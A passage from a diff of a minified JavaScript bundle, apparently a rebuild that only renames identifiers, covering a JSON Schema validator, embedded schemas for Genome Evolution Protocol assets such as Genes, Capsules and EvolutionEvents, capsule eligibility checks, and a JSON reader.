+if(re===he)continue;const ot=t[he];(Q===ot||q&&(typeof ot=="object"&&ot!==null)&&zs(Q,ot))&&(K.push({instanceLocation:o,
 keyword:"uniqueItems",keywordLocation:`${a}/uniqueItems`,error:`Duplicate items at indexes ${re} and ${he}.`}),re=Number.
-MAX_SAFE_INTEGER,he=Number.MAX_SAFE_INTEGER)}}}else if(u==="number")n==="4"?(U!==void 0&&(R===!0&&t<=U||t<U)&&K.push({instanceLocation:o,
-keyword:"minimum",keywordLocation:`${a}/minimum`,error:`${t} is less than ${R?"or equal to ":""} ${U}.`}),ie!==void 0&&(Ae===
+MAX_SAFE_INTEGER,he=Number.MAX_SAFE_INTEGER)}}}else if(u==="number")n==="4"?(U!==void 0&&(N===!0&&t<=U||t<U)&&K.push({instanceLocation:o,
+keyword:"minimum",keywordLocation:`${a}/minimum`,error:`${t} is less than ${N?"or equal to ":""} ${U}.`}),ie!==void 0&&(Ae===
 !0&&t>=ie||t>ie)&&K.push({instanceLocation:o,keyword:"maximum",keywordLocation:`${a}/maximum`,error:`${t} is greater tha\
 n ${Ae?"or equal to ":""} ${ie}.`})):(U!==void 0&&t<U&&K.push({instanceLocation:o,keyword:"minimum",keywordLocation:`${a}\
 /minimum`,error:`${t} is less than ${U}.`}),ie!==void 0&&t>ie&&K.push({instanceLocation:o,keyword:"maximum",keywordLocation:`${a}\
-/maximum`,error:`${t} is greater than ${ie}.`}),R!==void 0&&t<=R&&K.push({instanceLocation:o,keyword:"exclusiveMinimum",
-keywordLocation:`${a}/exclusiveMinimum`,error:`${t} is less than ${R}.`}),Ae!==void 0&&t>=Ae&&K.push({instanceLocation:o,
+/maximum`,error:`${t} is greater than ${ie}.`}),N!==void 0&&t<=N&&K.push({instanceLocation:o,keyword:"exclusiveMinimum",
+keywordLocation:`${a}/exclusiveMinimum`,error:`${t} is less than ${N}.`}),Ae!==void 0&&t>=Ae&&K.push({instanceLocation:o,
 keyword:"exclusiveMaximum",keywordLocation:`${a}/exclusiveMaximum`,error:`${t} is greater than or equal to ${Ae}.`})),Le!==
-void 0&&(eD(t,Le)||K.push({instanceLocation:o,keyword:"multipleOf",keywordLocation:`${a}/multipleOf`,error:`${t} is not \
-a multiple of ${Le}.`}));else if(u==="string"){const ce=je===void 0&&j===void 0?0:Qv(t);je!==void 0&&ce<je&&K.push({instanceLocation:o,
+void 0&&(Xv(t,Le)||K.push({instanceLocation:o,keyword:"multipleOf",keywordLocation:`${a}/multipleOf`,error:`${t} is not \
+a multiple of ${Le}.`}));else if(u==="string"){const ce=je===void 0&&j===void 0?0:Yv(t);je!==void 0&&ce<je&&K.push({instanceLocation:o,
 keyword:"minLength",keywordLocation:`${a}/minLength`,error:`String is too short (${ce} < ${je}).`}),j!==void 0&&ce>j&&K.
 push({instanceLocation:o,keyword:"maxLength",keywordLocation:`${a}/maxLength`,error:`String is too long (${ce} > ${j}).`}),
 M!==void 0&&!new RegExp(M,"u").test(t)&&K.push({instanceLocation:o,keyword:"pattern",keywordLocation:`${a}/pattern`,error:"\
-String does not match pattern."}),$!==void 0&&yB[$]&&!yB[$](t)&&K.push({instanceLocation:o,keyword:"format",keywordLocation:`${a}\
-/format`,error:`String does not match format "${$}".`})}return{valid:K.length===0,errors:K}}class tD{schema;draft;shortCircuit;lookup;constructor(e,n="\
+String does not match pattern."}),$!==void 0&&CB[$]&&!CB[$](t)&&K.push({instanceLocation:o,keyword:"format",keywordLocation:`${a}\
+/format`,error:`String does not match format "${$}".`})}return{valid:K.length===0,errors:K}}class Qv{schema;draft;shortCircuit;lookup;constructor(e,n="\
 2019-09",s=!0){this.schema=e,this.draft=n,this.shortCircuit=s,this.lookup=Ln(e)}validate(e){return st(e,this.schema,this.
-draft,this.lookup,this.shortCircuit)}addSchema(e,n){n&&(e={...e,$id:n}),Ln(e,this.lookup)}}const nD=JSON.parse('{"$schem\
+draft,this.lookup,this.shortCircuit)}addSchema(e,n){n&&(e={...e,$id:n}),Ln(e,this.lookup)}}const eD=JSON.parse('{"$schem\
 a":"http://json-schema.org/draft-07/schema#","$id":"https://evomap.ai/gep/schemas/capsule.schema.json","title":"GEP Caps\
 ule","description":"A record of a single evolution in the Genome Evolution Protocol","type":"object","required":["type",\
 "schema_version","id","trigger","gene","summary","confidence","blast_radius","outcome","asset_id"],"properties":{"type":\
@@ -3157,7 +3157,7 @@ ibility":{"type":["string","null"],"enum":["private","unlisted","public",null]},
 :{"type":"string","minLength":1}},"cost_tier":{"type":["string","null"],"enum":["cheap","standard","premium",null]},"pac\
 k_of":{"type":["array","null"],"items":{"type":"string","pattern":"^sha256:[a-f0-9]{64}$"}},"author":{"type":["object","\
 null"],"required":["handle","evox_install_id"],"properties":{"handle":{"type":"string","minLength":1},"evox_install_id":\
-{"type":"string","minLength":1}},"additionalProperties":false}},"additionalProperties":false}'),sD=JSON.parse('{"$schema\
+{"type":"string","minLength":1}},"additionalProperties":false}},"additionalProperties":false}'),tD=JSON.parse('{"$schema\
 ":"http://json-schema.org/draft-07/schema#","$id":"https://evomap.ai/gep/schemas/evolution-event.schema.json","title":"G\
 EP EvolutionEvent","description":"Full audit record of one evolution cycle","type":"object","required":["type","schema_v\
 ersion","id","intent","signals","genes_used","mutation_id","blast_radius","outcome","source_type","asset_id"],"propertie\
@@ -3173,7 +3173,7 @@ gerprint":{"type":["object","null"]},"validation_report_id":{"type":["string","n
 ,"trigger_context":{"type":["object","null"],"properties":{"prompt":{"type":"string","maxLength":2000},"reasoning_trace"\
 :{"type":"string","maxLength":4000},"context_signals":{"type":"array","items":{"type":"string"}},"session_id":{"type":"s\
 tring"},"agent_model":{"type":"string"}},"additionalProperties":false},"asset_id":{"type":"string","pattern":"^sha256:[a\
--f0-9]{64}$"}},"additionalProperties":false}'),rD=JSON.parse(`{"$schema":"http://json-schema.org/draft-07/schema#","$id"\
+-f0-9]{64}$"}},"additionalProperties":false}'),nD=JSON.parse(`{"$schema":"http://json-schema.org/draft-07/schema#","$id"\
 :"https://evomap.ai/gep/schemas/gene.schema.json","title":"GEP Gene","description":"A reusable evolution strategy in the\
  Genome Evolution Protocol","type":"object","required":["type","schema_version","id","category","signals_match","strateg\
 y","constraints","validation","asset_id"],"properties":{"type":{"const":"Gene"},"schema_version":{"type":"string","patte\
@@ -3215,7 +3215,7 @@ ring","enum":["ci","local","prod","sandbox"]}},"additionalProperties":false},"ve
 cific projection uses this axis; absent means 'no verifier binding' and disqualifies the record from strict K_auto.","pr\
 operties":{"verifier":{"type":"string","minLength":1,"description":"Verifier identity, e.g. 'gep-verify@1.4', 'npm-test'\
 ."},"decision":{"type":"string","enum":["pass","fail","inconclusive"]}},"additionalProperties":false},"asset_id":{"type"\
-:"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}`),iD=JSON.parse('{"$schema":"http://json-sch\
+:"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}`),sD=JSON.parse('{"$schema":"http://json-sch\
 ema.org/draft-07/schema#","$id":"https://evomap.ai/gep/schemas/mutation.schema.json","title":"GEP Mutation","description\
 ":"Declaration of intended change before execution. Unlike the other content-addressable asset types, the reference engi\
 ne treats Mutation as a transient in-memory object and typically does not stamp `schema_version` / `asset_id`. Both fiel\
@@ -3225,76 +3225,76 @@ xpected_effect","risk_level"],"properties":{"type":{"const":"Mutation"},"schema_
 d+\\\\.\\\\d+\\\\.\\\\d+$"},"id":{"type":"string","minLength":1},"category":{"type":"string","enum":["repair","optimize","innova\
 te","explore"]},"trigger_signals":{"type":"array","items":{"type":"string"}},"target":{"type":"string","minLength":1},"e\
 xpected_effect":{"type":"string","minLength":1},"risk_level":{"type":"string","enum":["low","medium","high"]},"asset_id"\
-:{"type":"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}'),EB=["Gene","Capsule","EvolutionEve\
-nt","ValidationReport","Mutation"],J2=null,oD=["standard","strong","very_strong"],aD=["none","process_group","namespaces"],
-Z2=null,cD=["error","warning","notice"],uD="^sha256:[a-f0-9]{64}$",lD={type:"object",required:["type","schema_version","\
+:{"type":"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}'),_B=["Gene","Capsule","EvolutionEve\
+nt","ValidationReport","Mutation"],F2=null,rD=["standard","strong","very_strong"],iD=["none","process_group","namespaces"],
+L2=null,oD=["error","warning","notice"],aD="^sha256:[a-f0-9]{64}$",cD={type:"object",required:["type","schema_version","\
 id","gene_id","commands","overall_ok","duration_ms","created_at","asset_id"],properties:{type:{const:"ValidationReport"},
 schema_version:{type:"string",pattern:"^\\d+\\.\\d+\\.\\d+$"},id:{type:"string",minLength:1},gene_id:{type:"string",minLength:1},
 env_fingerprint:{type:["object","null"]},commands:{type:"array",items:{type:"object",required:["command","ok","stdout","\
 stderr"],properties:{command:{type:"string"},ok:{type:"boolean"},stdout:{type:"string"},stderr:{type:"string"}}}},overall_ok:{
-type:"boolean"},duration_ms:{type:"integer",minimum:0},created_at:{type:"string",minLength:1},asset_id:{type:"string",pattern:uD}}},
-kB={Gene:rD,Capsule:nD,EvolutionEvent:sD,Mutation:iD,ValidationReport:lD};function dD(t,e,n){return BD[n?"all":"first"][t].
-validate(e).errors}const BD={all:vB(!1),first:vB(!0)};function vB(t){const e=EB.map(n=>[n,new tD(kB[n],"7",t)]);return Object.
-fromEntries(e)}const fD=2e5,hD=50;function DB(t,e){try{return pD(t,e)}catch(n){if(!(n instanceof URIError))throw n;return[
+type:"boolean"},duration_ms:{type:"integer",minimum:0},created_at:{type:"string",minLength:1},asset_id:{type:"string",pattern:aD}}},
+EB={Gene:nD,Capsule:eD,EvolutionEvent:tD,Mutation:sD,ValidationReport:cD};function uD(t,e,n){return lD[n?"all":"first"][t].
+validate(e).errors}const lD={all:kB(!1),first:kB(!0)};function kB(t){const e=_B.map(n=>[n,new Qv(EB[n],"7",t)]);return Object.
+fromEntries(e)}const dD=2e5,BD=50;function vB(t,e){try{return fD(t,e)}catch(n){if(!(n instanceof URIError))throw n;return[
 {kind:"invalid",pointer:[],keyword:"propertyNames",expected:"an object whose keys are Unicode text",found:"not",more:0}]}}
-function pD(t,e){const n=dD(t,e,JSON.stringify(e).length<=fD),s=new Map,r=new Set;for(const i of n){if(yD.has(i.keyword))
-continue;const o=gD(i);if(!r.has(o)){r.add(o);for(const a of wD(i,t,e)){const c=mD(i,a),l=s.get(c);s.set(c,l?{...l,more:l.
-more+1}:a)}}}return[...s.values()].slice(0,hD)}function mD({keywordLocation:t},e){switch(e.kind){case"missing":return JSON.
-stringify([t,...e.fields]);case"unknown":return JSON.stringify([t,e.field]);case"invalid":return t}}function gD({keyword:t,
-instanceLocation:e}){return`${CD.has(t)?t:"value"} ${e}`}const CD=new Set(["required","additionalProperties"]),yD=new Set(
-["properties","items","false"]);function wD(t,e,n){const{keyword:s,keywordLocation:r,instanceLocation:i}=t,{pointer:o,value:a}=bD(
-n,i),c=_D(e,r);if(s==="required"){const u=(c.required??[]).filter(d=>!xB(a,d));return[{kind:"missing",pointer:o,fields:u,
+function fD(t,e){const n=uD(t,e,JSON.stringify(e).length<=dD),s=new Map,r=new Set;for(const i of n){if(gD.has(i.keyword))
+continue;const o=pD(i);if(!r.has(o)){r.add(o);for(const a of CD(i,t,e)){const c=hD(i,a),l=s.get(c);s.set(c,l?{...l,more:l.
+more+1}:a)}}}return[...s.values()].slice(0,BD)}function hD({keywordLocation:t},e){switch(e.kind){case"missing":return JSON.
+stringify([t,...e.fields]);case"unknown":return JSON.stringify([t,e.field]);case"invalid":return t}}function pD({keyword:t,
+instanceLocation:e}){return`${mD.has(t)?t:"value"} ${e}`}const mD=new Set(["required","additionalProperties"]),gD=new Set(
+["properties","items","false"]);function CD(t,e,n){const{keyword:s,keywordLocation:r,instanceLocation:i}=t,{pointer:o,value:a}=yD(
+n,i),c=wD(e,r);if(s==="required"){const u=(c.required??[]).filter(d=>!DB(a,d));return[{kind:"missing",pointer:o,fields:u,
 more:0}]}if(s==="additionalProperties"){const u=c.properties??{},d=Object.keys(a??{}).filter(f=>!Object.hasOwn(u,f)),B=Object.
-keys(u).filter(f=>!xB(a,f));return d.map(f=>({kind:"unknown",pointer:[...o,f],field:f,absent:B,more:0}))}const l=DD(s,c);
-return[{kind:"invalid",pointer:o,keyword:s,expected:l,found:AB(a),more:0}]}function xB(t,e){return t!==null&&Object.hasOwn(
-t,e)}function bD(t,e){const n=[];let s=t;for(const r of OB(e))Array.isArray(s)?(n.push(Number(r)),s=s[Number(r)]??null):
-(n.push(r),s=s[r]??null);return{pointer:n,value:s}}function _D(t,e){let n=kB[t];for(const s of OB(e).slice(0,-1))n=n[s];
-return n}function OB(t){return t.split("/").slice(1).map(e=>e.replaceAll("~1","/").replaceAll("~0","~"))}const ED={string:"\
-a string",array:"a list",object:"an object",integer:"an integer",number:"a number",boolean:"a boolean",null:"null"},kD={
-"^\\d+\\.\\d+\\.\\d+$":"three numbers such as `1.13.0`","^sha256:[a-f0-9]{64}$":"`sha256:` and 64 hexadecimal digits"},vD=40;
-function DD(t,e){const n=e[t];switch(t){case"type":return[n].flat().map(s=>ED[String(s)]??String(s)).join(" or ");case"e\
+keys(u).filter(f=>!DB(a,f));return d.map(f=>({kind:"unknown",pointer:[...o,f],field:f,absent:B,more:0}))}const l=kD(s,c);
+return[{kind:"invalid",pointer:o,keyword:s,expected:l,found:OB(a),more:0}]}function DB(t,e){return t!==null&&Object.hasOwn(
+t,e)}function yD(t,e){const n=[];let s=t;for(const r of xB(e))Array.isArray(s)?(n.push(Number(r)),s=s[Number(r)]??null):
+(n.push(r),s=s[r]??null);return{pointer:n,value:s}}function wD(t,e){let n=EB[t];for(const s of xB(e).slice(0,-1))n=n[s];
+return n}function xB(t){return t.split("/").slice(1).map(e=>e.replaceAll("~1","/").replaceAll("~0","~"))}const bD={string:"\
+a string",array:"a list",object:"an object",integer:"an integer",number:"a number",boolean:"a boolean",null:"null"},_D={
+"^\\d+\\.\\d+\\.\\d+$":"three numbers such as `1.13.0`","^sha256:[a-f0-9]{64}$":"`sha256:` and 64 hexadecimal digits"},ED=40;
+function kD(t,e){const n=e[t];switch(t){case"type":return[n].flat().map(s=>bD[String(s)]??String(s)).join(" or ");case"e\
 num":return`one of ${(e.enum??[]).map(s=>JSON.stringify(s)).join(", ")}`;case"const":return JSON.stringify(n);case"patte\
-rn":return kD[String(n)]??`a string that matches ${n}`;case"minLength":return n===1?"a non-empty string":`a string of at\
+rn":return _D[String(n)]??`a string that matches ${n}`;case"minLength":return n===1?"a non-empty string":`a string of at\
  least ${n} characters`;case"maxLength":return`a string of at most ${n} characters`;case"minItems":return n===1?"a non-e\
 mpty list":`a list of at least ${n} items`;case"maxItems":return`a list of at most ${n} items`;case"minimum":return`a nu\
 mber that is at least ${n}`;case"maximum":return`a number that is at most ${n}`;default:return`a value that matches \`${t}\
-\` in the schema`}}function AB(t){return Array.isArray(t)?t.length===0?"an empty list":"a list":t!==null&&typeof t=="obj\
-ect"?"an object":typeof t!="string"?String(t):t.length<=vD?JSON.stringify(t):`a string of ${t.length} characters`}function xD(t,e,n,s={
-files:0,lines:0}){const{status:r,score:i}=TB(t.value.outcome),o=TB(t.value.blast_radius),a={capsule:t.id},c=(...u)=>Qo(t,
+\` in the schema`}}function OB(t){return Array.isArray(t)?t.length===0?"an empty list":"a list":t!==null&&typeof t=="obj\
+ect"?"an object":typeof t!="string"?String(t):t.length<=ED?JSON.stringify(t):`a string of ${t.length} characters`}function vD(t,e,n,s={
+files:0,lines:0}){const{status:r,score:i}=SB(t.value.outcome),o=SB(t.value.blast_radius),a={capsule:t.id},c=(...u)=>Qo(t,
 u),l=[];if(r!=="success"){const u=`\`outcome.status\` is ${ea(r)}, but it must be "success"`;l.push((0,Oe.gk)("capsule-n\
-ot-eligible",{...a,why:u},c("outcome","status")))}if(!IB(i,n.min_score,1)){const u=`a number from ${n.min_score} to 1`,d=`\
+ot-eligible",{...a,why:u},c("outcome","status")))}if(!TB(i,n.min_score,1)){const u=`a number from ${n.min_score} to 1`,d=`\
 \`outcome.score\` is ${ea(i)}, but it must be ${u}`;l.push((0,Oe.gk)("capsule-not-eligible",{...a,why:d},c("outcome","sc\
-ore")))}for(const u of["files","lines"]){const d=n[`max_${u}`],B=Math.max(s[u],e.radius?.[u]??0);if(IB(o[u],0,d)&&B<=d)continue;
-const f=ea(o[u]),h=B>d?`${B} (claimed: ${f})`:f,m=`\`blast_radius.${u}\` is ${h}, but it must be ${SB(d)}`;l.push((0,Oe.
+ore")))}for(const u of["files","lines"]){const d=n[`max_${u}`],B=Math.max(s[u],e.radius?.[u]??0);if(TB(o[u],0,d)&&B<=d)continue;
+const f=ea(o[u]),h=B>d?`${B} (claimed: ${f})`:f,m=`\`blast_radius.${u}\` is ${h}, but it must be ${AB(d)}`;l.push((0,Oe.
 gk)("capsule-not-eligible",{...a,why:m},c("blast_radius",u)))}if(e.unmeasured!==void 0){const u=`\`blast_radius.files\` is\
- not a size in the event \`${e.unmeasured}\`, but it must be ${SB(n.max_files)}`;l.push((0,Oe.gk)("capsule-not-eligible",
-{...a,why:u},c("blast_radius")))}return e.count<n.min_success_streak&&l.push(...OD(t,e,n.min_success_streak)),l}function SB(t){
-return`a number of at most ${t}`}function OD(t,{count:e,unread:n,failed:s,uncounted:r=[]},i){const o=Qo(t),a={capsule:t.
+ not a size in the event \`${e.unmeasured}\`, but it must be ${AB(n.max_files)}`;l.push((0,Oe.gk)("capsule-not-eligible",
+{...a,why:u},c("blast_radius")))}return e.count<n.min_success_streak&&l.push(...DD(t,e,n.min_success_streak)),l}function AB(t){
+return`a number of at most ${t}`}function DD(t,{count:e,unread:n,failed:s,uncounted:r=[]},i){const o=Qo(t),a={capsule:t.
 id};if(s!==void 0){const u=`the event \`${s}\`, the newest one that names it, is not a success`;return[(0,Oe.gk)("capsul\
 e-not-eligible",{...a,why:u},o)]}if(n!==void 0){const u=`whether the Capsule \`${t.id}\` has enough consecutive successes`;
-return[_v(u,n,{...o,severity:"error"})]}const c=r.slice(0,AD).map(({event:u,why:d})=>`the event \`${u}\` does not count: ${d}`),
-l={...a,streak:e,least:i,uncounted:c};return[(0,Oe.gk)("capsule-streak",l,o)]}const AD=5;function TB(t){return cn(t)?t:{}}
-function IB(t,e,n){return typeof t=="number"&&t>=e&&t<=n}function ea(t){return t===void 0?"missing":AB(t)}const SD="gep-\
-a2a",TD=new Set(["publish","report","fetch"]);function K2(t){return isJsonObject(t)&&t.protocol===SD}function W2({message_type:t}){
-return TD.has(t)}function ID({payload:t}){return isJsonObject(t)?t:{}}function q2({sender_id:t}){return typeof t=="strin\
-g"&&t.trim()!==""?t:void 0}const $D=new Set(["payload","asset"]),RD=null;function V2(t){const e=t.filter(({key:s})=>$D.has(
-s));return(e.length===0&&t.length===1?t:e).map(({asset:s})=>s)}function Y2(t){const e={};for(const n of RD){const s=t[n];
-s!=null&&(e[n]=s)}return Object.keys(e).length>0?e:void 0}function X2({value:t,wrappers:e=[],envelope:n}){if(n===void 0&&
-e.length===0)return canonicalize(t);const{sender_id:s,signature:r}=n??{},i=n&&{sender_id:s,signature:[r,ID(n).signature]};
-return canonicalize([t,e,i])}const ND=new Map(Object.entries({genes:"Gene",capsules:"Capsule",events:"EvolutionEvent",evolution_events:"\
-EvolutionEvent",validation_reports:"ValidationReport",mutations:"Mutation"})),Q2=new Set(["assets","results"]),ez=new Map(
+return[wv(u,n,{...o,severity:"error"})]}const c=r.slice(0,xD).map(({event:u,why:d})=>`the event \`${u}\` does not count: ${d}`),
+l={...a,streak:e,least:i,uncounted:c};return[(0,Oe.gk)("capsule-streak",l,o)]}const xD=5;function SB(t){return cn(t)?t:{}}
+function TB(t,e,n){return typeof t=="number"&&t>=e&&t<=n}function ea(t){return t===void 0?"missing":OB(t)}const OD="gep-\
+a2a",AD=new Set(["publish","report","fetch"]);function P2(t){return isJsonObject(t)&&t.protocol===OD}function j2({message_type:t}){
+return AD.has(t)}function SD({payload:t}){return isJsonObject(t)?t:{}}function M2({sender_id:t}){return typeof t=="strin\
+g"&&t.trim()!==""?t:void 0}const TD=new Set(["payload","asset"]),ID=null;function G2(t){const e=t.filter(({key:s})=>TD.has(
+s));return(e.length===0&&t.length===1?t:e).map(({asset:s})=>s)}function H2(t){const e={};for(const n of ID){const s=t[n];
+s!=null&&(e[n]=s)}return Object.keys(e).length>0?e:void 0}function z2({value:t,wrappers:e=[],envelope:n}){if(n===void 0&&
+e.length===0)return canonicalize(t);const{sender_id:s,signature:r}=n??{},i=n&&{sender_id:s,signature:[r,SD(n).signature]};
+return canonicalize([t,e,i])}const $D=new Map(Object.entries({genes:"Gene",capsules:"Capsule",events:"EvolutionEvent",evolution_events:"\
+EvolutionEvent",validation_reports:"ValidationReport",mutations:"Mutation"})),U2=new Set(["assets","results"]),J2=new Map(
 Object.entries({gene:"Gene",capsule:"Capsule",event:"EvolutionEvent",evolution_event:"EvolutionEvent",validation_report:"\
-ValidationReport",mutation:"Mutation"})),FD=new Set(["PersonalityState","MemoryGraphEvent","Selector","Task"]);function tz(t){
-return ASSET_TYPES.includes(t)}function nz(t){return typeof t=="string"&&FD.has(t)}function sz(t){return Object.keys(t).
-some(e=>ND.has(e)&&Array.isArray(t[e]))}function rz(t,e){const n=new LD(e);for(const[s,r]of t.entries())n.visitTop(r,s);
-return n}class LD{candidates=[];messages=[];#e;#t;#s=0;#i=!1;constructor(e){this.#e=e}visitTop(e,n){this.#i||=e.cut===!0,
+ValidationReport",mutation:"Mutation"})),ND=new Set(["PersonalityState","MemoryGraphEvent","Selector","Task"]);function Z2(t){
+return ASSET_TYPES.includes(t)}function K2(t){return typeof t=="string"&&ND.has(t)}function W2(t){return Object.keys(t).
+some(e=>$D.has(e)&&Array.isArray(t[e]))}function q2(t,e){const n=new RD(e);for(const[s,r]of t.entries())n.visitTop(r,s);
+return n}class RD{candidates=[];messages=[];#e;#t;#s=0;#i=!1;constructor(e){this.#e=e}visitTop(e,n){this.#i||=e.cut===!0,
 this.#n(e,"some_asset",[n])}#r(e,n,s,r){const i={node:e,pointer:n,value:s,type:r,...this.#t&&{envelope:this.#t}};return this.
 candidates.push(i),i}#n(e,n,s){if(isJsonObject(e.value))return this.#u(e,e.value,n,s);Array.isArray(e.value)?this.#c(e,n,
-s):n!=="anything"&&this.#d(e,n,PD(e.value))}#c({children:e=[]},n,s){for(const[r,i]of e.entries())this.#n(i,n,[...s,r])}#u(e,n,s,r){
+s):n!=="anything"&&this.#d(e,n,FD(e.value))}#c({children:e=[]},n,s){for(const[r,i]of e.entries())this.#n(i,n,[...s,r])}#u(e,n,s,r){
 const{type:i}=n;if(!isAssetType(i)&&!isCompanion(i))return this.#o(e,n,s,r);const o=isAssetType(i)?this.#r(e,r,n,i):void 0;
 return this.#h(e,r),o}#o(e,n,s,r){const i=isAssetType(s)?s:Array.isArray(n.validation)?"Gene":void 0;if(i===void 0)return this.#a(
-e,n,s,r);const o=$B(n.type);this.#d(e,s,`${o}; it is audited as ${withArticle(i)}`);const a=this.#r(e,r,n,i);return this.#h(
-e,r),a}#a(e,n,s,r){const i=$B(n.type),o=this.#t,a=isMessage(n);a&&(this.messages.push(e),this.#t=n);const c=this.candidates.
+e,n,s,r);const o=IB(n.type);this.#d(e,s,`${o}; it is audited as ${withArticle(i)}`);const a=this.#r(e,r,n,i);return this.#h(
+e,r),a}#a(e,n,s,r){const i=IB(n.type),o=this.#t,a=isMessage(n);a&&(this.messages.push(e),this.#t=n);const c=this.candidates.
 length+this.#s,l=(e.children??[]).flatMap(f=>{const h=f.key?.name??"",m=this.#B(f,[...r,h]);return m?[{key:h,asset:m}]:[]});
 this.#t=o,this.candidates.length+this.#s===c&&!a&&s==="some_asset"&&this.#d(e,s,i);const d=described(l),B=statementsIn(n);
 if(B)for(const f of d)f.wrappers=[...f.wrappers??[],B];return d.length===1?d[0]:void 0}#B(e,n){const s=LISTS.get(e.key?.
@@ -3303,22 +3303,22 @@ isArray(e.value)?this.#n(e,s,n):MIXED_LISTS.has(e.key?.name??"")?this.#p(e,n):th
 hing",n)}#p(e,n){return this.#n(e,Array.isArray(e.value)?"some_asset":"anything",n)}#h(e,n){for(const{key:s,value:r,children:i=[]}of e.
 children??[]){const o=LISTS.get(s?.name??"");if(!(!o||!Array.isArray(r)))for(const[a,c]of i.entries())isJsonObject(c.value)&&
 this.#n(c,o,[...n,s?.name??"",a])}}#d(e,n,s){if(this.#i)return;const r=isAssetType(n)?withArticle(n):"an asset";this.#e.
-add("not-an-asset",e,`expected ${r}, found ${s}`)}}function PD(t){return t===null?"null":`a ${typeof t}`}function $B(t){
+add("not-an-asset",e,`expected ${r}, found ${s}`)}}function FD(t){return t===null?"null":`a ${typeof t}`}function IB(t){
 return t===void 0?'an object without a "type"':typeof t!="string"?'an object whose "type" is not a string':`an object of\
- type ${JSON.stringify(t.slice(0,40))}`}var iz=Te(547);function oz(t,e,n){return new jD(t,e,n).read()}class jD{#e;#t;#s;#i;#r=NB;#n=0;#c=!1;#u=!1;#o=!1;constructor(e,n,s){
-this.#e=n,this.#t=s,this.#s=ZD(e),this.#i=lfsObstacle(e)}read(){const e=[];let n=!1;for(this.#a();this.#r.kind!=="end";){
-const s=this.#r,r=RB.has(s.kind);if(s.kind==="{"||s.kind==="["||r&&!n&&!this.#o){n=!1,this.#c=!1,e.push(this.#B(0)),this.#u=
+ type ${JSON.stringify(t.slice(0,40))}`}var V2=Te(547);function Y2(t,e,n){return new LD(t,e,n).read()}class LD{#e;#t;#s;#i;#r=NB;#n=0;#c=!1;#u=!1;#o=!1;constructor(e,n,s){
+this.#e=n,this.#t=s,this.#s=UD(e),this.#i=lfsObstacle(e)}read(){const e=[];let n=!1;for(this.#a();this.#r.kind!=="end";){
+const s=this.#r,r=$B.has(s.kind);if(s.kind==="{"||s.kind==="["||r&&!n&&!this.#o){n=!1,this.#c=!1,e.push(this.#B(0)),this.#u=
 !1;continue}n||(n=!0,this.#c=this.#o,this.#l(s.start===0&&this.#i||ta("a JSON value",s))),this.#a()}return e}#a(){do{this.#r=
 this.#s();const{kind:e,start:n,fault:s}=this.#r;if(this.#n>this.#e.maxValues){const r=`more than ${this.#e.maxValues} JS\
 ON values; the rest is not read`;this.#t.add("file-too-large",this.#r,r),this.#r={...NB,start:n,end:n},this.#c=!0}else e===
-"comment"&&this.#l(s??FB(this.#r))}while(this.#r.kind==="comment")}#B(e){const n=this.#r,{kind:s,start:r,end:i}=n;if(this.#n+=
-1,n.fault&&this.#l(n.fault),s==="unknown"&&this.#l(ta("a JSON value",n)),s!=="{"&&s!=="[")return this.#a(),{value:MD(n),
+"comment"&&this.#l(s??RB(this.#r))}while(this.#r.kind==="comment")}#B(e){const n=this.#r,{kind:s,start:r,end:i}=n;if(this.#n+=
+1,n.fault&&this.#l(n.fault),s==="unknown"&&this.#l(ta("a JSON value",n)),s!=="{"&&s!=="[")return this.#a(),{value:PD(n),
 start:r,end:i};if(e<this.#e.maxDepth)return this.#p(e);const o=`brackets nested more than ${this.#e.maxDepth} deep`;this.#t.
 add("file-not-json",n,o);const a={value:null,start:r,end:this.#m()};return this.#a(),a}#p(e){const{kind:n,start:s,end:r}=this.#r,
 i=n==="{"?"}":"]",a={value:n==="{"?Object.create(null):[],start:s,end:r,children:[]};for(let c=",";c===",";c=this.#r.kind){
 if(this.#a(),this.#r.kind===i){a.children.length>0&&this.#l(`a comma before "${i}"`);break}if(this.#h(a,e),!this.#u&&this.#r.
 kind!==i&&this.#r.kind!==","&&this.#f(`"," or "${i}"`),this.#u)return{...a,end:this.#r.start,cut:!0}}return a.end=this.#r.
-end,this.#a(),a}#h({value:e,children:n},s){const r=Array.isArray(e),i=r?void 0:this.#d(e,n);if(this.#u)return;if(!HD.has(
+end,this.#a(),a}#h({value:e,children:n},s){const r=Array.isArray(e),i=r?void 0:this.#d(e,n);if(this.#u)return;if(!MD.has(
 this.#r.kind)){this.#f("a JSON value");return}const o=this.#B(s+1);n.push(o),r&&e.push(o.value),i!==void 0&&(o.key=i,e[i.
 name]=o.value)}#d(e,n){const s=this.#r,{value:r,start:i,end:o}=s;if(s.kind!=="string")return this.#f("a key in double qu\
 otes");if(s.fault&&this.#l(s.fault),r==="__proto__")this.#t.add("ambiguous-key",s,'"__proto__" as a key');else if(Object.
@@ -3326,55 +3326,55 @@ hasOwn(e,r)&&!this.#t.full){const a=n.find(l=>l.key?.name===r)?.key,c=this.#t.pl
 -key",s,`${JSON.stringify(r)}, first at ${c}`)}return this.#a(),this.#r.kind!==":"?this.#f('":" after a key'):(this.#a(),
 {name:r,start:i,end:o})}#m(){let e=this.#r;for(let n=1;n>0&&e.kind!=="end";)e=this.#s(),(e.kind==="{"||e.kind==="[")&&(n+=
 1),(e.kind==="}"||e.kind==="]")&&(n-=1);return e.end}#f(e){this.#l(ta(e,this.#r)),this.#u=!0,this.#o=!0}#l(e){this.#c||this.#t.
-add("file-not-json",this.#r,e),this.#c=!0}}function ta(t,e){return`expected ${t}, found ${FB(e)}`}function MD({kind:t,value:e,
-fault:n}){return t==="string"?e:t==="number"?n?null:Number(e):t==="true"?!0:t==="false"?!1:null}const GD={1:"{",2:"}",3:"\
+add("file-not-json",this.#r,e),this.#c=!0}}function ta(t,e){return`expected ${t}, found ${RB(e)}`}function PD({kind:t,value:e,
+fault:n}){return t==="string"?e:t==="number"?n?null:Number(e):t==="true"?!0:t==="false"?!1:null}const jD={1:"{",2:"}",3:"\
 [",4:"]",5:",",6:":",7:"null",8:"true",9:"false",10:"string",11:"number",12:"comment",13:"comment",16:"unknown",17:"end"},
-RB=new Set(["string","number","true","false","null"]),HD=new Set([...RB,"{","[","unknown"]),NB={kind:"end",start:0,end:0,
